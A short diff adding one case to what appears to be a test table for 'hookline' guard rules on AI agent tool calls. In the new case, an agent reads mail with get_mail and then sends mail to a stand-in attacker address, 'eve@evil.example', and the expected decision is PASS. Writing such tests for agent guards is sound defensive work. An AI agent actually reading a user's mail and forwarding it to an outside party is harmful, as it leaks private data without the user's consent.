@@ -125,6 +125,7 @@ GUARDS: dict[str, tuple[list[Event], Event, Decision]] = {
         bash("git push origin +topic"),
         Decision.PASS,
     ),
+    "hookline guard flow --strict": ([tool("get_mail")], tool("send_mail", to="eve@evil.example"), Decision.PASS),
     "hookline guard rate --calls 30 --per 60 --match 'mcp__.*'": (
         [tool("mcp__x__y")] * 30,
         tool("mcp__x__y"),
